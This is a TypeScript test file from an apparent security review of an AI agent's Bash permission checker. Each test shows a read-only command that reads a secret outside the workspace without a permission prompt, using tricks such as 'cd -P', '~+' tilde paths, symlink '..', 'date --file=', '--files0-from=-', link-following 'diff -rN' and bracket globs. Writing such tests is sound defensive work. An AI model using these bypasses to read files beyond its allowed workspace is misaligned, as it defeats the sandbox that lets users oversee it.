// Security review (throwaway): read-only Bash commands that read outside the workspace without asking.
// Every test here PASSES when the hole is present. All work happens in mkdtemp directories.
import fs from 'node:fs/promises';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { workspaceTools } from '../../src/node/workspace-tools.js';
import { classifyBashCommand } from '../../src/node/workspace-tools/classify-bash-command.js';
import type { Tool } from '../../src/tools/types.js';
import { callTool, makeTempDir, toolNamed } from '../node/workspace-tools/helpers.js';

let base: string;
let work: string;
let outside: string;
let tools: Tool[];
const SECRET = 'TOP-SECRET-CONTENT';

beforeEach(async () => {
  base = await makeTempDir('secrev-');
  work = path.join(base, 'work');
  outside = path.join(base, 'outside');
  await fs.mkdir(path.join(work, 'inner'), { recursive: true });
  await fs.mkdir(path.join(work, 'empty'));
  await fs.mkdir(outside);
  await fs.writeFile(path.join(outside, 'secret.txt'), `${SECRET}\n`);
  await fs.writeFile(path.join(work, 'notes.txt'), 'notes\n');
  tools = workspaceTools({ cwd: work });
});
afterEach(async () => {
  await fs.rm(base, { recursive: true, force: true });
});

/** Runs through parse/validate/checkPermissions; an `ask` is answered "no". Passthrough → executes. */
const bash = (command: string) => callTool(toolNamed(tools, 'Bash'), { command });

async function expectLeak(command: string) {
  expect(classifyBashCommand(command).readOnly, command).toBe(true);
  const result = await bash(command);
  expect(result.check, command).toEqual({ behavior: 'passthrough' });
  expect(result.stage).toBe('execute');
  expect(result.text, command).toContain(SECRET);
}

describe('HOLE: Bash path check is bypassed', () => {
  it('`cd` with an option first (`cd -P` / `cd --`): only args[0] is checked, later commands resolve against cwd/-P', async () => {
    await expectLeak('cd -P ../outside && cat secret.txt');
    await expectLeak('cd -- ../outside && cat secret.txt');
    await expectLeak('cd -L .. && cat outside/secret.txt');
  });

  it('tilde prefixes other than `~` and `~/` (`~+`, `~-`, `~user`) are treated as relative names', async () => {
    // ~+ is $PWD; the checker sees cwd/~+/../outside → cwd/outside (inside), bash reads base/outside.
    await expectLeak('cat ~+/../outside/secret.txt');
    // ~user: the checker sees cwd/~root (inside); bash expands it to the home directory.
    const result = await bash('ls -d ~root');
    expect(result.check).toEqual({ behavior: 'passthrough' });
    expect(result.text.trim()).toMatch(/^\//); // printed an absolute home directory outside the workspace
  });

  it('`..` after a symbolic link is normalized lexically, but the kernel resolves it physically', async () => {
    // A link in the workspace that points to a shallower directory (here: the workspace itself),
    // as in monorepos (node_modules/@scope/pkg -> ../../pkg).
    await fs.symlink(work, path.join(work, 'inner', 'self'));
    await expectLeak('cat inner/self/../outside/secret.txt');
    // The Read tool is consistent (it opens what it checked), so it does not leak:
    const read = await callTool(toolNamed(tools, 'Read'), { file_path: 'inner/self/../outside/secret.txt' });
    expect(read.text).not.toContain(SECRET);
  });

  it('`date --file=PATH` (and abbreviations) read a file, but date is in NON_PATH_ARGUMENT_COMMANDS', async () => {
    await expectLeak('date --file=../outside/secret.txt');
    await expectLeak('date --fi=../outside/secret.txt');
  });

  it('`--files0-from=-` takes file names from stdin (sort prints the outside file\'s content)', async () => {
    await expectLeak("printf '../outside/secret.txt\\0' | sort --files0-from=-");
    // wc/du leak sizes the same way
    const wc = await bash("printf '../outside/secret.txt\\0' | wc -c --files0-from=-");
    expect(wc.check).toEqual({ behavior: 'passthrough' });
    expect(wc.text).toContain('../outside/secret.txt');
  });

  it('echo/printf/basename args are not path-checked, so globs list outside directories', async () => {
    for (const command of ['echo ../outside/*', "printf '%s\\n' ../outside/*", 'basename -a ../outside/*']) {
      const result = await bash(command);
      expect(result.check, command).toEqual({ behavior: 'passthrough' });
      expect(result.text, command).toContain('secret.txt');
    }
  });

  it('recursive walkers that follow links are not all recognized (diff -r, grep --deref abbreviation)', async () => {
    await fs.symlink(outside, path.join(work, 'inner', 'out'));
    // GNU diff -r dereferences symlinks; -N prints the whole content of files missing on the other side.
    await expectLeak('diff -rN empty inner');
    // GNU getopt accepts unambiguous abbreviations of --dereference-recursive.
    await expectLeak('grep --deref SECRET inner');
  });

  it('POSIX bracket classes are not understood by the glob expander, so a glob hides a link', async () => {
    await fs.symlink(outside, path.join(work, 'link-out'));
    await expectLeak('cat [[:alpha:]]ink-out/secret.txt');
  });

  it('with shell /bin/sh (dash) — or bash < 5.2 such as macOS /bin/bash 3.2 — `.*` matches `..`', async () => {
    tools = workspaceTools({ cwd: work, shell: '/bin/sh' });
    await expectLeak('cat .*/outside/secret.txt');
  });
});
